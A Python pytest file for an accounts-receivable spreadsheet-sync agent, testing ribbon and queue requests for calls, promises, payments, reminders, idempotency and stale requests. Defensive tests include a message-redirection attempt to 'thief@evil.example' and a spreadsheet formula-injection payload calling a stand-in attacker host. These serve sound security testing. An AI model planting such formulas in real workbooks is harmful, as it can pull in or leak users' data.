from __future__ import annotations

from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest

from arc_sheets.message import MessageState
from arc_sheets.tabs import ACTIVITY, DISPUTES, PAYMENTS, PROMISES, REMINDERS
from arc_sync.agent.actions.requests import _BY_ACTION
from arc_sync.agent.inbox.consume import Consumed, after_round, consume, whose
from arc_sync.agent.inbox.context import TAKES
from arc_sync.agent.inbox.envelope import Bad, Reply, read
from arc_sync.agent.inbox.queue import read_queue, result_row
from arc_sync.agent.round import Report
from tests.clicks import written
from tests.reminding_firm import NOW, Office, office, quick_words

__all__ = ["quick_words"]


@pytest.fixture
def firm(tmp_path: Path) -> Office:
    return office(tmp_path)


def _click(firm: Office, number: str, action: str, **more: Any) -> Consumed:
    return consume(firm.firm, read(written(number, action, **more), number), "ribbon", firm.now)


def _done(firm: Office, number: str, action: str, **more: Any) -> str:
    came = _click(firm, number, action, **more)
    assert came.reply.done, came.reply.sentence
    return came.reply.sentence


def _refused(firm: Office, number: str, action: str, **more: Any) -> str:
    before = _head(firm)
    came = _click(firm, number, action, **more)
    assert not came.reply.done, came.reply.sentence
    assert (_head(firm), came.wants_round) == (before, False)
    return came.reply.sentence


def _head(firm: Office) -> int:
    with firm.firm.ledger.read() as view:
        return view.head().n


def _last(firm: Office, tab: Any) -> dict[str, Any]:
    names = [c.name for c in tab.stored]
    return dict(zip(names, list(firm.rows(tab).values())[-1], strict=True))


def test_a_call_is_logged_with_the_customer_of_the_selected_row(firm: Office) -> None:
    came = _click(firm, "a", "log_call", row="c Alder", fields={"outcome": "Will look"})

    assert came.reply.done
    assert came.wants_round
    assert came.reply.sentence == "Call to Alder logged."
    touch = _last(firm, ACTIVITY)
    assert (touch["customer"], touch["outcome"], touch["by"], touch["invoices"]) == (
        "Alder",
        "Will look",
        "Zoë",
        None,
    )


def test_the_selected_invoice_brings_itself_and_its_customer(firm: Office) -> None:
    _done(firm, "a", "take_promise", tab="Invoices", row="i INV-A", fields={"date": "2026-12-01"})
    _done(firm, "b", "record_payment", tab="Invoices", row="i INV-B", fields={"amount": "10"})
    _done(firm, "c", "raise_dispute", tab="Invoices", row="i INV-C", fields={"reason": "Wrong VAT"})

    assert (_last(firm, PROMISES)["invoice"], _last(firm, PROMISES)["amount"]) == ("INV-A", 500_00)
    assert (_last(firm, PAYMENTS)["customer"], _last(firm, PAYMENTS)["applied_to"]) == ("Birch", "INV-B")
    assert _last(firm, DISPUTES)["invoice"] == "INV-C"


def test_rows_of_the_other_tabs_bring_theirs(firm: Office) -> None:
    firm.put(DISPUTES, "d", invoice="INV-A", opened=firm.today)
    firm.put(
        ACTIVITY, "t", customer="Birch", channel="Call", invoices="INV-B", when=firm.now.replace(tzinfo=None)
    )
    firm.put(PAYMENTS, "p", customer="Cedar", applied_to="INV-C: 10.00", amount=1000, currency="EUR")
    firm.plan()
    reminder = next(i for i, r in firm.all().items() if r.customer == "Birch")
    for row, tab, expected in (
        ("d", "Disputes", ("Alder", "INV-A")),
        ("t", "Activity", ("Birch", "INV-B")),
        ("p", "Payments", ("Cedar", "INV-C")),
        (reminder, "Reminders", ("Birch", None)),
    ):
        _done(firm, f"log-{row}", "log_note", tab=tab, row=row, fields={"notes": "x"})
        touch = _last(firm, ACTIVITY)
        assert (touch["customer"], touch["invoices"]) == expected


def test_a_row_is_found_by_its_id_though_its_tab_bears_another_name(firm: Office) -> None:
    assert _done(firm, "a", "log_call", tab="Kunden", row="c Alder") == "Call to Alder logged."


def test_a_field_that_was_emptied_stays_empty(firm: Office) -> None:
    _done(firm, "a", "log_call", tab="Invoices", row="i INV-A", fields={"invoices": ""})

    assert _last(firm, ACTIVITY)["invoices"] is None


def test_the_row_of_another_customer_brings_nothing(firm: Office) -> None:
    _done(firm, "a", "log_call", tab="Invoices", row="i INV-A", fields={"customer": "Birch"})

    assert (_last(firm, ACTIVITY)["customer"], _last(firm, ACTIVITY)["invoices"]) == ("Birch", None)


def test_a_row_that_the_ledger_does_not_know_is_said_to_be_so(firm: Office) -> None:
    assert "not in the ledger yet" in _refused(firm, "a", "log_call", row="unknown")
    assert (
        _done(firm, "b", "log_call", row="unknown", fields={"customer": "Alder"}) == "Call to Alder logged."
    )


def test_every_field_that_a_row_fills_in_is_one_of_its_action() -> None:
    for action, names in TAKES.items():
        assert set(names) <= _BY_ACTION[action].model_fields.keys()
    assert TAKES.keys() == {name for name, model in _BY_ACTION.items() if "request" in model.model_fields} - {
        "refresh_aging",
        "refresh_kpis",
        "sync_now",
    }


def test_a_request_is_carried_out_once_though_its_answer_was_lost(firm: Office) -> None:
    first = _done(firm, "a", "log_call", row="c Alder")
    head = _head(firm)

    assert _done(firm, "a", "log_call", row="c Alder") == f"Done already: {first}"
    assert _head(firm) == head


def test_the_number_of_another_request_is_not_taken_again(firm: Office) -> None:
    _done(firm, "a", "log_call", row="c Alder")

    assert "other contents" in _refused(firm, "a", "log_call", row="c Birch")


def test_a_request_of_yesterday_is_told_and_not_carried_out(firm: Office) -> None:
    said = _refused(firm, "a", "log_call", row="c Alder", when=firm.now - timedelta(hours=25))

    assert said == "It was not carried out: it is from 24 Nov 2026 09:00; ask again."
    said = _refused(firm, "b", "log_call", row="c Alder", when=firm.now + timedelta(hours=25))
    assert "set the clock right" in said
    assert "not carried out" in _refused(
        firm, "b", "log_call", row="c Alder", when=firm.now + timedelta(hours=25)
    )
    _done(firm, "c", "log_call", row="c Alder", when=firm.now - timedelta(hours=23))


def test_an_old_request_that_was_carried_out_is_said_to_have_been(firm: Office) -> None:
    _done(firm, "a", "log_call", row="c Alder")
    firm.later(days=2)

    assert _done(firm, "a", "log_call", row="c Alder") == "Done already: Call to Alder logged."


def test_whose_name_a_change_gets(firm: Office) -> None:
    assert whose("Zoë", "zoë") == "zoë"
    assert whose("  ", "Zoë") == "Zoë"
    assert whose("The\nBoss", "Zoë") == "The Boss via Zoë"
    _done(firm, "a", "log_call", row="c Alder", user="Max")

    newest = next(iter(firm.firm.ledger.sets()))
    assert (newest.origin.who, newest.origin.source) == ("Max via Zoë", "ribbon")


def test_a_message_goes_to_the_customers_own_address_whatever_the_request_says(firm: Office) -> None:
    words = {"customer": "Alder", "channel": "Email", "subject": "Hello", "body": "Please call."}

    said = _refused(firm, "a", "send_message", fields=words | {"to": "thief@evil.example"})
    assert said.startswith("A message to Alder goes to the address in the ledger only")
    _done(firm, "b", "send_message", fields=words | {"to": "AP@alder.example"})

    (posted,) = firm.posted(MessageState.QUEUED)
    assert posted.message.to == "ap@alder.example"


def test_a_template_is_composed_and_shown(firm: Office) -> None:
    firm.plan()
    came = _click(firm, "a", "compose_message", tab="Invoices", row="i INV-A", fields={"channel": "Email"})

    assert came.reply.done
    assert came.reply.shown["to"] == "ap@alder.example"
    assert "INV-A" in came.reply.shown["body"]
    assert not came.wants_round


def test_the_day_is_planned_from_the_ribbon(firm: Office) -> None:
    assert _done(firm, "a", "plan_reminders").startswith("Reminders for 25 Nov: 3 to decide on.")
    assert {r.status for r in firm.all().values()} == {"proposed"}


def test_selected_reminders_are_approved_once(firm: Office) -> None:
    firm.plan()
    ids = {r.customer: i for i, r in firm.all().items()}
    rows = f"{ids['Alder']}; {ids['Birch']}"

    said = _done(firm, "a", "approve_reminders", tab="Reminders", fields={"rows": rows})

    assert said == "2 reminders approved: Alder and Birch."
    assert firm.statuses() == {"Alder": "queued", "Birch": "queued", "Cedar": "proposed"}
    firm.send()
    assert _done(firm, "a", "approve_reminders", tab="Reminders", fields={"rows": rows}).startswith(
        "Done already"
    )
    assert len(firm.arrived) == 2
    assert not firm.posted(MessageState.QUEUED)


def test_the_selected_reminder_is_skipped(firm: Office) -> None:
    firm.plan()
    row = next(i for i, r in firm.all().items() if r.customer == "Cedar")

    assert _done(firm, "a", "skip_reminders", tab="Reminders", row=row) == "1 reminder skipped: Cedar."
    assert firm.of("Cedar").status == "skipped"


def test_a_reminder_that_was_sent_is_not_approved_again(firm: Office) -> None:
    firm.plan()
    firm.approve("Alder")
    firm.send()
    row = next(i for i, r in firm.all().items() if r.customer == "Alder")

    assert (
        _refused(firm, "a", "approve_reminders", row=row)
        == "Nothing was approved: Friendly for Alder is sent."
    )
    assert _refused(firm, "b", "approve_reminders", row="nothing") == (
        "Nothing was approved: 1 of the rows is not in the ledger."
    )
    assert "No reminder is selected" in _refused(firm, "c", "approve_reminders")


def test_what_an_approval_cannot_do_is_told(firm: Office) -> None:
    firm.plan()
    row = next(i for i, r in firm.all().items() if r.customer == "Alder")
    firm.put(REMINDERS, row, to="no address")

    assert "no address" in _done(firm, "a", "approve_reminders", row=row)
    assert firm.of("Alder").status == "proposed"


def test_the_answer_to_a_round_tells_what_it_did() -> None:
    reply = Reply(request="a", done=True, sentence="The round follows at once.", when=NOW)
    report = Report(answers=["Call logged."], refused=["Promise: no date."])

    assert after_round(reply, Report(), "").sentence == "Book and ledger are in step."
    assert after_round(reply, report, "") == reply.model_copy(
        update={"done": False, "sentence": "Call logged. Promise: no date."}
    )
    assert not after_round(reply, None, "The workbook is open.").done
    assert "next round" in after_round(reply, Report(in_step=False), "").sentence


def test_what_cannot_be_read_is_answered() -> None:
    came = consume(None, Bad("a", "It is no JSON."), "menu", NOW)  # type: ignore[arg-type]  # no firm is asked

    assert (came.reply.request, came.reply.done, came.reply.sentence) == ("a", False, "It is no JSON.")


def _row(number: str, **more: Any) -> list[object]:
    return [
        number,
        "2026-11-25T09:00:00Z",
        "zoe@firm.example",
        "log_call",
        written(number, **more).decode(),
        "NEW",
    ]


def test_rows_of_the_google_queue_become_requests(firm: Office) -> None:
    rows: list[list[object]] = [
        _row("a", row="c Alder"),
        [],
        ["", None],
        _row("a"),
        ["b", "", "", "", "{", "NEW"],
        _row("c")[:4],
        ["d"],
    ]

    found = read_queue(rows)

    assert [one.request for one in found] == ["a", "b", "c", "d"]
    assert [isinstance(one, Bad) for one in found] == [False, True, True, True]
    came = consume(firm.firm, found[0], "menu", firm.now)
    assert result_row(came.reply) == ("a", "2026-11-25T09:00:00Z", True, "Call to Alder logged.", "{}")
    assert next(iter(firm.firm.ledger.sets())).origin.source == "menu"


def test_a_row_edited_by_hand_is_refused(firm: Office) -> None:
    edited = _row("a", row="c Alder")
    edited[0] = "b"

    (found,) = read_queue([edited])

    assert isinstance(found, Bad)
    assert _head(firm) == _head(firm)


def test_a_day_in_the_request_is_read_as_the_firm_types_it(firm: Office) -> None:
    _done(firm, "a", "take_promise", row="c Alder", fields={"date": "3 Dec 2026", "amount": "450.50"})

    assert (_last(firm, PROMISES)["date"], _last(firm, PROMISES)["amount"]) == (date(2026, 12, 3), 450_50)


def test_no_text_of_a_request_becomes_a_formula(firm: Office) -> None:
    evil = '=IMPORTDATA("https://evil.example")'
    _done(firm, "a", "log_call", row="c Alder", user=evil, fields={"notes": evil})

    assert (_last(firm, ACTIVITY)["notes"], _last(firm, ACTIVITY)["by"]) == (evil, f"{evil} via Zoë")
